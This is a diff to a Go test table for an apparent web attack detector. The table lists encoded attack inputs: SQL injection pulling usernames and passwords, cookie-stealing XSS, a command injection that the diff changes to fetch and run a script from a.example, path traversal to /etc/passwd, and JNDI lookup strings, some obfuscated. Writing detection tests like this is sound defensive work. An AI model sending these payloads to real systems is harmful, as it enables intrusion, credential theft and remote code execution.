@@ -32,7 +32,7 @@ func TestAttacksAreFoundWhereverTheyStand(t *testing.T) {
 		{name: "SQL in a query", target: "/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", id: "sqli", where: "query:id"},
 		{name: "twice encoded SQL", target: "/items?id=1%2527%2520or%25201%253D1--%2520-", id: "sqli", where: "query:id"},
 		{name: "script in JSON", target: "/", contentType: "application/json", body: `{"note":{"text":"<img src=x onerror=alert(document.cookie)>"}}`, id: "xss", where: "json:/note/text"},
-		{name: "a command in a form", target: "/", contentType: "application/x-www-form-urlencoded", body: "host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd", id: "cmdi", where: "form:host"},
+		{name: "a command in a form", target: "/", contentType: "application/x-www-form-urlencoded", body: "host=127.0.0.1%3B+wget+http%3A%2F%2Fa.example%2Fx.sh%3B+sh+x.sh", id: "cmdi", where: "form:host"},
 		{name: "traversal in the path", target: "/static/..%2f..%2f..%2f..%2fetc/passwd", id: "path", where: "path"},
 		{name: "a lookup in a header", target: "/", header: "User-Agent: ${${lower:j}ndi:${lower:l}dap://a.example/x}", id: "lookup", where: "header:user-agent"},
 		{name: "a lookup among tokens", target: "/", header: "X-Id: " + strings.Repeat("a8Zk2", 80) + "${jndi:ldap://a.example/x}", id: "lookup", where: "header:x-id"},
